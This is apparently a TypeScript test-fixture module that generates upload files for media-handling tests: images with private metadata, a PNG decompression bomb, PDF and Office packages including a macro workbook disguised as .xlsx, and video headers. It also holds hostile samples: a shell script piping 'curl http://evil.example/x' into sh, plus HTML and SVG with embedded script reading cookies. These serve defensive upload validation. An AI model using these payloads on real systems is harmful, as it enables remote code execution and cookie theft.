import zlib from 'node:zlib';
import sharp from 'sharp';
import { storedZip } from './zip.js';

/**
 * Every upload the media tests need, made in code: nothing binary is checked in, and each fixture
 * is what its name says (the tests check that too, where it is not obvious).
 */

export const solidImage = (width: number, height: number, format: 'jpeg' | 'png' | 'webp' = 'jpeg') =>
  sharp({
    create: {
      width,
      height,
      channels: format === 'png' ? 4 : 3,
      background: { r: 200, g: 60, b: 60, alpha: 0.5 },
    },
  })
    .toFormat(format)
    .toBuffer();

/** What a phone puts in a photo, and what must never reach another member. */
export const PRIVATE = {
  make: 'PhoneMaker',
  artist: 'Salma Haddad',
  latitude: '25/1 12/1 18/1',
  xmpCreator: 'salma-xmp-creator',
};

/**
 * A JPEG as a phone writes it: camera and owner, GPS position, an XMP packet, a Display P3 colour
 * profile and, when asked, an EXIF orientation (6: the sensor was held sideways).
 */
export function phonePhoto(width: number, height: number, orientation = 1): Promise<Buffer> {
  const xmp =
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
    `<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${PRIVATE.xmpCreator}</dc:creator>` +
    '</rdf:Description></rdf:RDF></x:xmpmeta>';
  return sharp({ create: { width, height, channels: 3, background: '#358' } })
    .withExif({
      IFD0: { Make: PRIVATE.make, Model: 'Phone 12', Artist: PRIVATE.artist },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: PRIVATE.latitude,
        GPSLongitudeRef: 'E',
        GPSLongitude: '55/1 16/1 12/1',
      },
    })
    .withMetadata({ orientation })
    .withIccProfile('p3')
    .withXmp(xmp)
    .jpeg()
    .toBuffer();
}

/**
 * A JPEG with stray bytes between two markers: libjpeg warns ("extraneous bytes before marker")
 * and decodes it fine. Some phone and editing apps write files like this.
 */
export const withStrayBytes = (jpeg: Buffer) =>
  Buffer.concat([jpeg.subarray(0, 2), Buffer.from([1, 2, 3, 4]), jpeg.subarray(2)]);

/** The first `fraction` of a file, as a dropped connection or a broken copy leaves it. */
export const cut = (file: Buffer, fraction = 0.5) => file.subarray(0, Math.floor(file.length * fraction));

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A greyscale PNG of `width` × `height` black pixels. Black compresses to almost nothing, so a
 * 60 MP canvas is a 60 KB file (a decompression bomb); `rows` limits the pixel data actually
 * written, for canvases too large to even compress here (the header alone claims the size).
 */
export function blackPng(width: number, height: number, rows = height): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bits per sample
  header[9] = 0; // greyscale
  const pixels = zlib.deflateSync(Buffer.alloc((width + 1) * rows), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A one-page PDF with a correct cross-reference table, as small as a real one gets. */
export function minimalPdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of offsets) body += `${String(at).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const OOXML_TYPES = 'http://schemas.openxmlformats.org/package/2006/content-types';
const OOXML_RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE_DOC = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument';
const SHEET_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

const contentTypes = (main: string, part: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="${OOXML_TYPES}">` +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  `<Override PartName="/${part}" ContentType="${main}"/></Types>`;
const rootRels = (part: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${OOXML_RELS}">` +
  `<Relationship Id="rId1" Type="${OFFICE_DOC}" Target="${part}"/></Relationships>`;

const SHEET_MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const MACRO_MAIN = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
const DOC_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

/** The parts of a one-sheet workbook, "[Content_Types].xml" first as Excel writes it. */
function workbookParts(main = SHEET_MAIN): Record<string, string> {
  return {
    '[Content_Types].xml': contentTypes(main, 'xl/workbook.xml'),
    '_rels/.rels': rootRels('xl/workbook.xml'),
    'xl/workbook.xml':
      `<workbook xmlns="${SHEET_NS}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` +
      '<sheets><sheet name="CV" sheetId="1" r:id="rId1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels':
      `<Relationships xmlns="${OOXML_RELS}"><Relationship Id="rId1" ` +
      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" ' +
      'Target="worksheets/sheet1.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml':
      `<worksheet xmlns="${SHEET_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Salma</t></is>` +
      '</c></row></sheetData></worksheet>',
  };
}

export const xlsx = () => storedZip(workbookParts());
/** A macro-enabled workbook (.xlsm), honest about its content type. */
export const xlsm = () =>
  storedZip({ ...workbookParts(MACRO_MAIN), 'xl/vbaProject.bin': Buffer.alloc(64, 1) });
/** A workbook that carries a macro project but claims to be a plain .xlsx. */
export const xlsxWithMacros = () =>
  storedZip({ ...workbookParts(), 'xl/vbaProject.bin': Buffer.alloc(64, 1) });
/** The sheet's folder without the package's content types: a zip, not a workbook. */
export const xlFolderZip = () => {
  const { ['[Content_Types].xml']: _types, ...rest } = workbookParts();
  return storedZip(rest);
};
export const docx = () =>
  storedZip({
    '[Content_Types].xml': contentTypes(DOC_MAIN, 'word/document.xml'),
    '_rels/.rels': rootRels('word/document.xml'),
    'word/document.xml':
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
      '<w:body><w:p><w:r><w:t>Salma</w:t></w:r></w:p></w:body></w:document>',
  });
export const plainZip = () => storedZip({ 'notes.txt': 'hello', 'photo.jpg': Buffer.alloc(10, 0xff) });

const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};
const isoBox = (type: string, body: Buffer) =>
  Buffer.concat([u32(8 + body.length), Buffer.from(type, 'latin1'), body]);

/** The start of an ISO media file: an `ftyp` box with the given major brand, then an empty `mdat`. */
export const isoMedia = (brand: string) =>
  Buffer.concat([
    isoBox(
      'ftyp',
      Buffer.concat([Buffer.from(brand.padEnd(4), 'latin1'), u32(0x200), Buffer.from('isomiso2mp41')]),
    ),
    isoBox('free', Buffer.alloc(0)),
    isoBox('mdat', Buffer.alloc(16)),
  ]);

/** An EBML header with the given DocType ("webm", "matroska"), then the start of a Segment. */
export function ebml(docType: string): Buffer {
  const element = (id: number[], value: Buffer) => Buffer.from([...id, 0x80 | value.length, ...value]);
  const uint = (n: number) => Buffer.from([n]);
  const header = Buffer.concat([
    element([0x42, 0x86], uint(1)), // EBMLVersion
    element([0x42, 0xf7], uint(1)), // EBMLReadVersion
    element([0x42, 0xf2], uint(4)), // EBMLMaxIDLength
    element([0x42, 0xf3], uint(8)), // EBMLMaxSizeLength
    element([0x42, 0x82], Buffer.from(docType, 'latin1')), // DocType
    element([0x42, 0x87], uint(4)), // DocTypeVersion
    element([0x42, 0x85], uint(2)), // DocTypeReadVersion
  ]);
  return Buffer.concat([
    Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | header.length]),
    header,
    Buffer.from([0x18, 0x53, 0x80, 0x67, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]), // Segment, unknown size
  ]);
}

export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const html = () =>
  Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
export const svg = () =>
  Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
      '<script>alert(1)</script><rect width="10" height="10"/></svg>',
  );
export const bareSvg = () =>
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>',
  );
